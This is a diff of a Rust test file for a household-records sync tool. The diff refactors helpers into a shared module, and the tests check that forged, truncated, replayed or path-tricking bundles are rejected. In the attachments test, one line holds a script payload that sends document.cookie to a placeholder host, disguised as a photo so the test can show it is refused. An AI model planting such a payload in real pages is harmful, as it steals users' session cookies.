@@ -11,90 +11,13 @@ use std::time::{Duration, Instant};
 
 use serde_json::{json, Value};
 
-const BIN: &str = env!("CARGO_BIN_EXE_bangfu");
-/// Every store in these tests is encrypted with this passphrase.
-const PASSPHRASE: &str = "村里的口令 2026";
-const POLICY: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/../assets/policy-default.toml");
-
-// ---------------------------------------------------------------------------
-// Running the binary
-// ---------------------------------------------------------------------------
-
-struct Run {
-    code: i32,
-    stdout: String,
-    stderr: String,
-}
-
-impl Run {
-    fn both(&self) -> String {
-        format!("{}\n{}", self.stdout, self.stderr)
-    }
-
-    #[track_caller]
-    fn ok(self) -> Run {
-        assert_eq!(self.code, 0, "expected success:\n{}", self.both());
-        self
-    }
-
-    #[track_caller]
-    fn fails(self, code: i32, needle: &str) -> Run {
-        assert_eq!(self.code, code, "expected exit {code}:\n{}", self.both());
-        assert!(
-            self.both().contains(needle),
-            "expected “{needle}” in:\n{}",
-            self.both()
-        );
-        self
-    }
-}
-
-fn run(db: &Path, args: &[&str]) -> Run {
-    let mut cmd = Command::new(BIN);
-    cmd.env("BANGFU_PASSPHRASE", PASSPHRASE)
-        .arg("--db")
-        .arg(db)
-        .args(args);
-    let out = cmd.output().expect("run bangfu");
-    Run {
-        code: out.status.code().unwrap_or(-1),
-        stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
-        stderr: String::from_utf8_lossy(&out.stderr).into_owned(),
-    }
-}
-
-fn p(path: &Path) -> &str {
-    path.to_str().expect("utf-8 path")
-}
-
-// ---------------------------------------------------------------------------
-// A county and its devices
-// ---------------------------------------------------------------------------
-
-struct County {
-    db: PathBuf,
-    key_file: PathBuf,
-}
-
-fn county(dir: &Path, name: &str, region: &str) -> County {
-    let db = dir.join(format!("{name}.sqlite"));
-    let key_file = dir.join(format!("{name}-key.bangfu"));
-    run(
-        &db,
-        &[
-            "county",
-            "init",
-            "--region",
-            region,
-            "--name",
-            &format!("{name}民政局"),
-            "--out",
-            p(&key_file),
-        ],
-    )
-    .ok();
-    County { db, key_file }
-}
+use crate::support::sync::{
+    county, device, device_in, keys_of, policy_text, publish_policy, County,
+};
+use crate::support::{
+    copy_store, import_households, open_store, p, photo, query_all, query_i64, query_text, run,
+    sha256_file, sha256_hex, sql, tempdir, Bangfu, Run, POLICY_DEFAULT,
+};
 
 fn household(code: &str, id_number: &str, phone: &str, address: &str, group: &str) -> Value {
     json!({
@@ -112,40 +35,6 @@ fn household(code: &str, id_number: &str, phone: &str, address: &str, group: &st
 
 const ID1: &str = "341024198104120119";
 const ID2: &str = "341024198309300228";
-
-fn import_households(db: &Path, file: &Path, households: &[Value]) {
-    let doc = json!({"format": "bangfu.household.v1", "households": households});
-    std::fs::write(file, serde_json::to_vec_pretty(&doc).expect("json")).expect("write");
-    run(db, &["import", "households", p(file)]).ok();
-}
-
-/// A device of 田心寨村 with an identity and the county's key, registered at `county`.
-fn device(dir: &Path, name: &str, county: &County) -> PathBuf {
-    device_in(dir, name, "田心寨村", county)
-}
-
-/// A device of `village`, registered at `county`.
-fn device_in(dir: &Path, name: &str, village: &str, county: &County) -> PathBuf {
-    let db = dir.join(format!("{name}.sqlite"));
-    let reg = dir.join(format!("{name}.reg"));
-    run(
-        &db,
-        &[
-            "device",
-            "init",
-            "--name",
-            name,
-            "--village",
-            village,
-            "--out",
-            p(&reg),
-        ],
-    )
-    .ok();
-    run(&db, &["device", "import-county-key", p(&county.key_file)]).ok();
-    run(&county.db, &["county", "register-device", p(&reg)]).ok();
-    db
-}
 
 fn export(db: &Path, out: &Path) -> Run {
     run(db, &["bundle", "export", "--out", p(out)])
@@ -173,28 +62,18 @@ fn sync(db: &Path, county: &County, out: &Path) -> Run {
 
 /// Everything about a county store that an import could change.
 fn snapshot(db: &Path) -> Vec<String> {
-    let conn = bangfu::store::open_connection(db, &bangfu::store::Passphrase::new(PASSPHRASE))
-        .expect("open");
-    [
-        "SELECT COUNT(*) || ':' || COALESCE(MAX(hash), '') FROM change_log",
-        "SELECT COUNT(*) FROM households",
-        "SELECT COUNT(*) FROM members",
-        "SELECT COUNT(*) FROM sync_imports",
-        "SELECT COALESCE(group_concat(device_id || '=' || last_sequence || '/' || last_hash), '') FROM sync_devices",
-        "SELECT COUNT(*) FROM sync_conflicts",
-        "SELECT COUNT(*) FROM sync_record_versions",
-    ]
-    .iter()
-    .map(|q| conn.query_row(q, [], |r| r.get::<_, String>(0).or_else(|_| r.get::<_, i64>(0).map(|n| n.to_string()))).expect(q))
-    .collect()
-}
-
-fn county_value(db: &Path, sql: &str) -> String {
-    let conn = bangfu::store::open_connection(db, &bangfu::store::Passphrase::new(PASSPHRASE))
-        .expect("open");
-    conn.query_row(sql, [], |r| r.get::<_, Option<String>>(0))
-        .expect(sql)
-        .unwrap_or_default()
+    query_all(
+        db,
+        &[
+            "SELECT COUNT(*) || ':' || COALESCE(MAX(hash), '') FROM change_log",
+            "SELECT COUNT(*) FROM households",
+            "SELECT COUNT(*) FROM members",
+            "SELECT COUNT(*) FROM sync_imports",
+            "SELECT COALESCE(group_concat(device_id || '=' || last_sequence || '/' || last_hash), '') FROM sync_devices",
+            "SELECT COUNT(*) FROM sync_conflicts",
+            "SELECT COUNT(*) FROM sync_record_versions",
+        ],
+    )
 }
 
 fn manifest_of(bundle: &Path) -> Value {
@@ -211,7 +90,7 @@ fn manifest_of(bundle: &Path) -> Value {
 
 #[test]
 fn round_trip_ack_and_only_new_entries() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let cty = county(d, "county", "341024");
     let db = d.join("a.sqlite");
@@ -331,7 +210,7 @@ fn round_trip_ack_and_only_new_entries() {
 
 #[test]
 fn two_devices_merge_fields_and_report_conflicts() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let cty = county(d, "county", "341024");
     let a = device(d, "a", &cty);
@@ -367,8 +246,8 @@ fn two_devices_merge_fields_and_report_conflicts() {
     assert!(r.stdout.contains("复制自设备"), "{}", r.stdout);
     run(&b, &["device", "import-county-key", p(&cty.key_file)]).ok();
     run(&cty.db, &["county", "register-device", p(&reg)]).ok();
-    let a_id = county_value(&a, "SELECT value FROM settings WHERE key = 'device_id'");
-    let b_id = county_value(&b, "SELECT value FROM settings WHERE key = 'device_id'");
+    let a_id = query_text(&a, "SELECT value FROM settings WHERE key = 'device_id'");
+    let b_id = query_text(&b, "SELECT value FROM settings WHERE key = 'device_id'");
     assert_ne!(a_id, b_id);
 
     // Different fields of the same household: both apply.
@@ -388,7 +267,7 @@ fn two_devices_merge_fields_and_report_conflicts() {
     let r = import(&cty, &[&a2, &b2]).ok();
     assert!(r.stdout.contains("新冲突 0 处"), "{}", r.stdout);
     let row = |col: &str| {
-        county_value(
+        query_text(
             &cty.db,
             &format!("SELECT {col} FROM households WHERE code = 'TXZ-001'"),
         )
@@ -497,7 +376,7 @@ fn small_world(d: &Path) -> (County, PathBuf, PathBuf) {
 
 #[test]
 fn every_flipped_byte_is_rejected_and_nothing_applied() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, _, bundle) = small_world(d);
     let original = std::fs::read(&bundle).expect("read");
@@ -549,7 +428,7 @@ fn every_flipped_byte_is_rejected_and_nothing_applied() {
 
 #[test]
 fn truncated_bundles_are_rejected() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, _, bundle) = small_world(d);
     let original = std::fs::read(&bundle).expect("read");
@@ -566,11 +445,14 @@ fn truncated_bundles_are_rejected() {
     ] {
         let f = d.join(format!("trunc-{len}.bangfu"));
         std::fs::write(&f, &original[..len]).expect("write");
-        let r = import(&cty, &[&f]).fails(2, "已拒绝");
+        let r = import(&cty, &[&f]);
+        assert_eq!(r.code, 2, "length {len}: {}", r.describe());
+        // The import's report, on stdout, names the file refused and why.
         assert!(
-            r.stdout.contains("被截断") || r.stdout.contains("缺少"),
+            r.stdout.contains("已拒绝")
+                && (r.stdout.contains("被截断") || r.stdout.contains("缺少")),
             "length {len}: {}",
-            r.stdout
+            r.describe()
         );
     }
     let mut longer = original.clone();
@@ -583,7 +465,7 @@ fn truncated_bundles_are_rejected() {
 
 #[test]
 fn unregistered_device_and_other_county_are_rejected() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a, bundle) = small_world(d);
 
@@ -655,7 +537,7 @@ fn unregistered_device_and_other_county_are_rejected() {
 
 #[test]
 fn replayed_out_of_order_and_forked_bundles_are_rejected() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a, b1) = small_world(d);
     // Keep a copy of the county as it was before bundle 1.
@@ -663,8 +545,7 @@ fn replayed_out_of_order_and_forked_bundles_are_rejected() {
         db: d.join("early.sqlite"),
         key_file: cty.key_file.clone(),
     };
-    std::fs::copy(&cty.db, &early.db).expect("copy");
-    copy_dir(&d.join("county.sqlite.keys"), &d.join("early.sqlite.keys"));
+    copy_store(&cty.db, &early.db);
 
     import(&cty, &[&b1]).ok();
     run(&a, &["bundle", "ack", p(&ack_of(&b1))]).ok();
@@ -709,7 +590,7 @@ fn replayed_out_of_order_and_forked_bundles_are_rejected() {
     assert_eq!(manifest_of(&b3)["sequence"], 3);
     import(&cty, &[&b3]).ok();
     assert_eq!(
-        county_value(
+        query_text(
             &cty.db,
             "SELECT phone FROM households WHERE code = 'TXZ-001'"
         ),
@@ -717,15 +598,6 @@ fn replayed_out_of_order_and_forked_bundles_are_rejected() {
     );
 }
 
-fn copy_dir(from: &Path, to: &Path) {
-    std::fs::create_dir_all(to).expect("mkdir");
-    for e in std::fs::read_dir(from).expect("read_dir") {
-        let e = e.expect("entry");
-        std::fs::copy(e.path(), to.join(e.file_name())).expect("copy");
-    }
-}
-
-/// A ustar header made by hand.
 fn tar_header(name: &str, size: usize, kind: u8, link: &str) -> [u8; 512] {
     let mut h = [0u8; 512];
     h[..name.len()].copy_from_slice(name.as_bytes());
@@ -759,7 +631,7 @@ fn tar(members: &[(&str, &[u8], u8, &str)]) -> Vec<u8> {
 
 #[test]
 fn tar_path_tricks_are_rejected() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, _, bundle) = small_world(d);
     let manifest = serde_json::to_vec(&manifest_of(&bundle)).expect("json");
@@ -820,7 +692,7 @@ fn tar_path_tricks_are_rejected() {
 
 #[test]
 fn a_one_gigabyte_garbage_file_is_rejected_quickly_with_little_memory() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a, _) = small_world(d);
     let big = d.join("big.bangfu");
@@ -861,64 +733,38 @@ fn a_one_gigabyte_garbage_file_is_rejected_quickly_with_little_memory() {
 /// fork and exec.
 fn timed(db: &Path, args: &[&str]) -> (Run, Duration, Option<u64>) {
     let t = Instant::now();
-    let out = Command::new(BIN)
-        .env("BANGFU_PASSPHRASE", PASSPHRASE)
+    let r = Bangfu::new()
+        .db(db)
         .env("BANGFU_REPORT_PEAK", "1") // the command reports its peak memory
-        .arg("--db")
-        .arg(db)
-        .args(args)
-        .output()
-        .expect("run bangfu");
+        .run(args);
     let elapsed = t.elapsed();
-    let stderr = String::from_utf8_lossy(&out.stderr).into_owned();
-    let peak = stderr
+    let peak = r
+        .stderr
         .lines()
         .find_map(|l| l.strip_prefix("bangfu-peak-kib: "))
         .and_then(|v| v.trim().parse().ok());
-    (
-        Run {
-            code: out.status.code().unwrap_or(-1),
-            stdout: String::from_utf8_lossy(&out.stdout).into_owned(),
-            stderr,
-        },
-        elapsed,
-        peak,
-    )
+    (r, elapsed, peak)
 }
 
 // ---------------------------------------------------------------------------
 // Policies, keys, standard tools
 // ---------------------------------------------------------------------------
 
-/// The built-in policy with `edits` (text replacements), signed by `cty`.
-fn publish_policy(cty: &County, d: &Path, name: &str, edits: &[(&str, &str)]) -> PathBuf {
-    let text = edits.iter().fold(
-        std::fs::read_to_string(POLICY).expect("policy"),
-        |text, (from, to)| {
-            assert!(text.contains(from), "{from} in the policy");
-            text.replace(from, to)
-        },
-    );
-    let toml = d.join(format!("{name}.toml"));
-    std::fs::write(&toml, text).expect("write");
-    let signed = d.join(format!("{name}.signed"));
-    run(
-        &cty.db,
-        &["county", "publish-policy", p(&toml), "--out", p(&signed)],
-    )
-    .ok();
-    signed
-}
-
 #[test]
 fn signed_policy_is_accepted_and_tampered_or_foreign_ones_are_not() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a, _) = small_world(d);
     let signed = d.join("policy.signed");
     run(
         &cty.db,
-        &["county", "publish-policy", POLICY, "--out", p(&signed)],
+        &[
+            "county",
+            "publish-policy",
+            POLICY_DEFAULT,
+            "--out",
+            p(&signed),
+        ],
     )
     .ok();
     // Before any import the device evaluates under the built-in policy.
@@ -935,7 +781,7 @@ fn signed_policy_is_accepted_and_tampered_or_foreign_ones_are_not() {
             "rural_standard_monthly = \"900.00\"",
         ),
     ];
-    let signed_2027 = publish_policy(&cty, d, "policy-2027", &rural_900);
+    let signed_2027 = publish_policy(&cty.db, d, "policy-2027", &policy_text(&rural_900));
     for f in [&signed, &signed_2027] {
         let r = run(&a, &["policy", "import", p(f)]).ok();
         assert!(r.stdout.contains("已核对县级签名"), "{}", r.stdout);
@@ -977,7 +823,7 @@ fn signed_policy_is_accepted_and_tampered_or_foreign_ones_are_not() {
             "rural_standard_monthly = \"950.00\"",
         ),
     ];
-    let signed_2027b = publish_policy(&cty, d, "policy-2027b", &reissued);
+    let signed_2027b = publish_policy(&cty.db, d, "policy-2027b", &policy_text(&reissued));
     let r = run(&a, &["policy", "import", p(&signed_2027b)]).ok();
     assert!(r.stdout.contains("2027-01 已被替换"), "{}", r.stdout);
     assert_eq!(evaluated("2027-02-01")["standard"], "950.00");
@@ -994,13 +840,13 @@ fn signed_policy_is_accepted_and_tampered_or_foreign_ones_are_not() {
     // import, and evaluations before that date name what is missing.
     let b = device(d, "b", &cty);
     let signed_future = publish_policy(
-        &cty,
+        &cty.db,
         d,
         "policy-2099",
-        &[
+        &policy_text(&[
             ("\"2026-01-01\"", "\"2099-01-01\""),
             ("version = \"2026-01\"", "version = \"2099-01\""),
-        ],
+        ]),
     );
     let r = run(&b, &["policy", "import", p(&signed_future)]).ok();
     assert!(r.stdout.contains("最早 2099-01-01 才生效"), "{}", r.stdout);
@@ -1024,7 +870,7 @@ fn signed_policy_is_accepted_and_tampered_or_foreign_ones_are_not() {
     let f = d.join("fake.signed");
     run(
         &fake.db,
-        &["county", "publish-policy", POLICY, "--out", p(&f)],
+        &["county", "publish-policy", POLICY_DEFAULT, "--out", p(&f)],
     )
     .ok();
     run(&a, &["policy", "import", p(&f)]).fails(2, "签名");
@@ -1033,7 +879,7 @@ fn signed_policy_is_accepted_and_tampered_or_foreign_ones_are_not() {
     let other = d.join("other.toml");
     std::fs::write(
         &other,
-        std::fs::read_to_string(POLICY)
+        std::fs::read_to_string(POLICY_DEFAULT)
             .expect("policy")
             .replace("341024", "341025"),
     )
@@ -1045,7 +891,7 @@ fn signed_policy_is_accepted_and_tampered_or_foreign_ones_are_not() {
 #[test]
 fn private_key_files_are_owner_only() {
     use std::os::unix::fs::PermissionsExt;
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (_, a, _) = small_world(d);
     let mode = |p: PathBuf| std::fs::metadata(&p).expect("meta").permissions().mode() & 0o777;
@@ -1072,7 +918,7 @@ fn private_key_files_are_owner_only() {
 
 #[test]
 fn standard_tools_check_the_bundle() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (_, _, bundle) = small_world(d);
     let out = d.join("x");
@@ -1091,11 +937,7 @@ fn standard_tools_check_the_bundle() {
     let m: Value =
         serde_json::from_slice(&std::fs::read(out.join("manifest.json")).expect("manifest"))
             .expect("json");
-    use sha2::Digest;
-    assert_eq!(
-        m["payload"]["sha256"],
-        hex::encode(sha2::Sha256::digest(&payload))
-    );
+    assert_eq!(m["payload"]["sha256"], sha256_hex(&payload));
     let pubkey = d.join("a.sqlite.keys/device.pub");
     match Command::new("minisign").arg("-v").output() {
         Err(_) => {
@@ -1145,20 +987,7 @@ fn standard_tools_check_the_bundle() {
         Ok(_) => {
             // The county's identity file is sealed by its store; unseal it
             // through the library, as bangfu itself does, for age to read.
-            let county = bangfu::store::Store::open(
-                &d.join("county.sqlite"),
-                &bangfu::store::Passphrase::new(PASSPHRASE),
-            )
-            .expect("county store");
-            let seal = bangfu::sync::identity::SealKey::of_store(&county)
-                .expect("seal")
-                .expect("county store has a seal key");
-            let keys = bangfu::sync::identity::KeySet::load(
-                &d.join("county.sqlite.keys"),
-                "county",
-                Some(&seal),
-            )
-            .expect("county keys");
+            let keys = keys_of(&d.join("county.sqlite"), "county");
             let identity = d.join("county-identity.txt");
             {
                 use age::secrecy::ExposeSecret;
@@ -1190,24 +1019,6 @@ fn standard_tools_check_the_bundle() {
 // Attachments: their bytes travel once per content, checked against their hash
 // ---------------------------------------------------------------------------
 
-/// A real 1200×900 JPEG photo: a pattern with noise, so that, like a real
-/// photo, its bytes hardly compress (`seed` varies it).
-fn photo(path: &Path, seed: u8) {
-    let mut state = 0x9e37_79b9_u32 ^ u32::from(seed);
-    let img = image::RgbImage::from_fn(1200, 900, |x, y| {
-        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
-        let noise = (state >> 26) as u8; // 0..63
-        let v = ((x / 40 + y / 30) % 2) as u8 * 120;
-        image::Rgb([
-            v.wrapping_add((x % 128) as u8).wrapping_add(noise),
-            seed.wrapping_add((y % 128) as u8).wrapping_add(noise / 2),
-            ((x * y / 97) % 128) as u8 + noise,
-        ])
-    });
-    img.save_with_format(path, image::ImageFormat::Jpeg)
-        .expect("write jpeg");
-}
-
 fn attach(db: &Path, household: &str, file: &Path, caption: &str) -> Run {
     run(
         db,
@@ -1222,11 +1033,6 @@ fn attach(db: &Path, household: &str, file: &Path, caption: &str) -> Run {
             caption,
         ],
     )
-}
-
-fn sha256_file(path: &Path) -> String {
-    use sha2::Digest;
-    hex::encode(sha2::Sha256::digest(std::fs::read(path).expect("read")))
 }
 
 /// SHA-256 of each file `attachments export` writes for `household`, sorted.
@@ -1267,23 +1073,6 @@ fn manifest_via_tar(bundle: &Path, dir: &Path) -> Value {
         .expect("manifest json"),
         _ => manifest_of(bundle),
     }
-}
-
-fn county_count(db: &Path, sql: &str) -> i64 {
-    let conn = bangfu::store::open_connection(db, &bangfu::store::Passphrase::new(PASSPHRASE))
-        .expect("open");
-    conn.query_row(sql, [], |r| r.get(0)).expect(sql)
-}
-
-/// The keys of the store at `db` (`device` or `county`), unsealed as bangfu does.
-fn keys_of(db: &Path, prefix: &str) -> bangfu::sync::identity::KeySet {
-    let store =
-        bangfu::store::Store::open(db, &bangfu::store::Passphrase::new(PASSPHRASE)).expect("store");
-    let seal = bangfu::sync::identity::SealKey::of_store(&store)
-        .expect("seal")
-        .expect("a seal key");
-    bangfu::sync::identity::KeySet::load(&bangfu::sync::identity::keys_dir(db), prefix, Some(&seal))
-        .expect("keys")
 }
 
 /// A bundle's manifest and its payload decrypted with the county's key and gunzipped.
@@ -1375,7 +1164,7 @@ fn two_households(d: &Path) -> (County, PathBuf) {
 fn attachments_travel_once_and_the_county_checks_their_bytes() {
     use base64::Engine as _;
     let b64 = base64::engine::general_purpose::STANDARD;
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a) = two_households(d);
     // The households alone, for the size the photos add.
@@ -1389,12 +1178,12 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
 
     // One photo, attached to two households: one content.
     let jpeg = d.join("房屋正面.jpg");
-    photo(&jpeg, 0);
+    photo(&jpeg, 1200, 900, 0);
     attach(&a, "TXZ-001", &jpeg, "房屋正面").ok();
     let r = attach(&a, "TXZ-002", &jpeg, "同一张照片").ok();
     assert!(r.stdout.contains("内容已存在"), "{}", r.stdout);
-    assert_eq!(county_count(&a, "SELECT COUNT(*) FROM blobs"), 1);
-    let stored = county_count(&a, "SELECT size FROM blobs");
+    assert_eq!(query_i64(&a, "SELECT COUNT(*) FROM blobs"), 1);
+    let stored = query_i64(&a, "SELECT size FROM blobs");
 
     let b1 = d.join("b1.bangfu");
     let r = export(&a, &b1).ok();
@@ -1439,20 +1228,14 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
         .expect("base64");
     assert_eq!(
         lines[blob_at]["blob"].as_str(),
-        Some(
-            hex::encode({
-                use sha2::Digest;
-                sha2::Sha256::digest(&bytes)
-            })
-            .as_str()
-        )
+        Some(sha256_hex(&bytes).as_str())
     );
 
     // The county: one blob with those bytes, both rows, its log verifying.
     let r = import(&cty, &[&b1]).ok();
     assert!(r.stdout.contains("✓"), "{}", r.stdout);
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM blobs"), 1);
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM attachments"), 2);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 1);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM attachments"), 2);
     for code in ["TXZ-001", "TXZ-002"] {
         let on_device = exported_attachment_hashes(&a, code, &d.join(format!("dev-{code}")));
         let at_county = exported_attachment_hashes(&cty.db, code, &d.join(format!("cty-{code}")));
@@ -1482,13 +1265,13 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
     );
     import(&cty, &[&b2]).ok();
     run(&a, &["bundle", "ack", p(&ack_of(&b2))]).ok();
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM blobs"), 1);
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM attachments"), 3);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 1);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM attachments"), 3);
     run(&cty.db, &["log", "verify"]).ok();
 
     // A new photo: bundle 3. Then what a compromised device could send instead.
     let jpeg2 = d.join("厨房.jpg");
-    photo(&jpeg2, 90);
+    photo(&jpeg2, 1200, 900, 90);
     attach(&a, "TXZ-002", &jpeg2, "厨房").ok();
     let b3 = d.join("b3.bangfu");
     export(&a, &b3).ok();
@@ -1502,8 +1285,8 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
         .expect("a blob line");
     let county_state = |db: &Path| {
         let mut s = snapshot(db);
-        s.push(county_count(db, "SELECT COUNT(*) FROM blobs").to_string());
-        s.push(county_count(db, "SELECT COUNT(*) FROM attachments").to_string());
+        s.push(query_i64(db, "SELECT COUNT(*) FROM blobs").to_string());
+        s.push(query_i64(db, "SELECT COUNT(*) FROM attachments").to_string());
         s
     };
     let before = county_state(&cty.db);
@@ -1581,10 +1364,7 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
     // A web page labelled as a photo (the county would serve it to a browser).
     let mut html = lines3.clone();
     let page = b"<html><script>fetch('http://x/?'+document.cookie)</script></html>".to_vec();
-    let page_sha = {
-        use sha2::Digest;
-        hex::encode(sha2::Sha256::digest(&page))
-    };
+    let page_sha = sha256_hex(&page);
     // Refused on arrival, before any row could name it.
     html[blob_at] = json!({"blob": page_sha, "mime": "image/jpeg", "data": b64.encode(&page)});
     let mut m = m3.clone();
@@ -1598,13 +1378,10 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
     // A blob no row of the bundle names.
     let mut extra = lines3.clone();
     let stray_file = d.join("stray.jpg");
-    photo(&stray_file, 7);
+    photo(&stray_file, 1200, 900, 7);
     let stray = std::fs::read(&stray_file).expect("stray photo");
     let stray = stray.as_slice();
-    let stray_sha = {
-        use sha2::Digest;
-        hex::encode(sha2::Sha256::digest(stray))
-    };
+    let stray_sha = sha256_hex(stray);
     extra.insert(
         0,
         json!({"blob": stray_sha, "mime": "image/jpeg", "data": b64.encode(stray)}),
@@ -1619,18 +1396,17 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
 
     // The real bundle 3 still imports.
     import(&cty, &[&b3]).ok();
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM blobs"), 2);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 2);
     run(&cty.db, &["log", "verify"]).ok();
     run(&a, &["bundle", "ack", p(&ack_of(&b3))]).ok();
 
     // Bytes changed behind the program's back on the device: found at export,
     // before anything leaves the laptop.
     let jpeg3 = d.join("院子.jpg");
-    photo(&jpeg3, 200);
+    photo(&jpeg3, 1200, 900, 200);
     attach(&a, "TXZ-001", &jpeg3, "院子").ok();
     {
-        let conn = bangfu::store::open_connection(&a, &bangfu::store::Passphrase::new(PASSPHRASE))
-            .expect("open");
+        let conn = sql(&a);
         let sha: String = conn
             .query_row(
                 "SELECT blob_sha256 FROM attachments WHERE caption = '院子'",
@@ -1647,25 +1423,24 @@ fn attachments_travel_once_and_the_county_checks_their_bytes() {
     let b4 = d.join("b4.bangfu");
     export(&a, &b4).fails(1, "与其哈希不符");
     assert!(!b4.exists());
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM blobs"), 2);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 2);
 }
 
 #[test]
 fn a_large_export_is_split_into_parts_the_county_takes_in_order() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a) = two_households(d);
     for seed in 1..=3 {
         let jpeg = d.join(format!("照片{seed}.jpg"));
-        photo(&jpeg, seed);
+        photo(&jpeg, 1200, 900, seed);
         attach(&a, "TXZ-001", &jpeg, &format!("照片{seed}")).ok();
     }
 
     // Parts of 64 KiB: the households fit in one; each photo (larger than
     // that) takes a part of its own, with the entry that names it.
     let out = d.join("村.bangfu");
-    let mut store =
-        bangfu::store::Store::open(&a, &bangfu::store::Passphrase::new(PASSPHRASE)).expect("open");
+    let mut store = open_store(&a);
     let exported = bangfu::sync::device::export_in_parts(&mut store, &a, &out, 64 * 1024)
         .unwrap_or_else(|e| panic!("export: {e}"));
     drop(store);
@@ -1694,13 +1469,13 @@ fn a_large_export_is_split_into_parts_the_county_takes_in_order() {
 
     // A later part alone is refused, naming the one missing.
     import(&cty, &[&parts[2].0]).fails(2, "缺少第 1 号");
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM households"), 0);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM households"), 0);
     // All parts, given in any order, go in by number.
     let files: Vec<&Path> = parts.iter().rev().map(|(p, _)| p.as_path()).collect();
     import(&cty, &files).ok();
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM households"), 2);
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM blobs"), 3);
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM attachments"), 3);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM households"), 2);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM blobs"), 3);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM attachments"), 3);
 
     // The last part's acknowledgement covers them all.
     run(&a, &["bundle", "ack", p(&ack_of(&parts[3].0))]).ok();
@@ -1792,7 +1567,7 @@ impl Forger {
 
 /// The county's current row of `table` where `filter`, as a device's change log writes it.
 fn county_row(db: &Path, table: &str, filter: &str) -> Value {
-    let text = county_value(
+    let text = query_text(
         db,
         &format!(
             "SELECT row_json FROM change_log WHERE tbl = '{table}' AND record_id =
@@ -1806,7 +1581,7 @@ const NOW: &str = "2026-11-30T08:00:00.000Z";
 
 #[test]
 fn a_device_writes_only_households_of_its_own_village_and_never_decisions() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a) = two_households(d);
     sync(&a, &cty, &d.join("a1.bangfu"));
@@ -1827,7 +1602,7 @@ fn a_device_writes_only_households_of_its_own_village_and_never_decisions() {
 
     let state = |db: &Path| {
         let mut s = snapshot(db);
-        s.push(county_count(db, "SELECT COUNT(*) FROM decisions").to_string());
+        s.push(query_i64(db, "SELECT COUNT(*) FROM decisions").to_string());
         s
     };
     let before = state(&cty.db);
@@ -1994,14 +1769,14 @@ fn a_device_writes_only_households_of_its_own_village_and_never_decisions() {
     );
     import(&cty, &[&ok]).ok();
     assert_eq!(
-        county_value(
+        query_text(
             &cty.db,
             "SELECT address FROM households WHERE code = 'BY-001'"
         ),
         "保婴村二号"
     );
     assert_eq!(
-        county_value(
+        query_text(
             &cty.db,
             "SELECT phone FROM households WHERE code = 'TXZ-001'"
         ),
@@ -2012,15 +1787,15 @@ fn a_device_writes_only_households_of_its_own_village_and_never_decisions() {
 
 #[test]
 fn decisions_saved_on_a_device_stay_on_it_and_its_bundles_still_chain() {
-    let dir = tempfile::tempdir().expect("tempdir");
+    let dir = tempdir();
     let d = dir.path();
     let (cty, a) = two_households(d);
     run(&a, &["eval", "--save", "--as-of", "2026-11-30"]).ok();
-    assert!(county_count(&a, "SELECT COUNT(*) FROM decisions") > 0);
+    assert!(query_i64(&a, "SELECT COUNT(*) FROM decisions") > 0);
     let b1 = d.join("a1.bangfu");
     sync(&a, &cty, &b1);
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM decisions"), 0);
-    assert_eq!(county_count(&cty.db, "SELECT COUNT(*) FROM households"), 2);
+    assert_eq!(query_i64(&cty.db, "SELECT COUNT(*) FROM decisions"), 0);
